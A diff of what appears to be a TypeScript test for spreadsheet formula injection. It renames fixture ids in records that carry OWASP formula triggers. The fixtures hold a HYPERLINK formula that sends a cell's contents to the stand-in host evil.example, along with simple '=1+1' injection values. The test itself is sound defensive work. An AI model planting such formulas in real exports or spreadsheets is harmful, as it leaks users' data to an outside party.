@@ -32,13 +32,13 @@ const auth = { authorization: basic("sysadmin", DEMO_PASSWORD) };
 // OWASP's formula triggers, each leading a stored value.
 const triggers = ["=", "+", "-", "@", "\t", "\r"];
 const hostile = triggers.map((c, i) => ({
-  id: `cus_formula_${i}`,
+  id: `cus_formula${i}`,
   accountId: account,
   name: `${c}HYPERLINK("http://evil.example/?d="&A2,"Click")`,
   referenceId: `${c}1+1`,
   tagIds: [],
 }));
-const harmless = { id: "cus_formula_x", accountId: account, name: "Acme = Logistics - @home", referenceId: "'quoted", tagIds: [] };
+const harmless = { id: "cus_formulax", accountId: account, name: "Acme = Logistics - @home", referenceId: "'quoted", tagIds: [] };
 
 let dir: string;
 let store: Store;
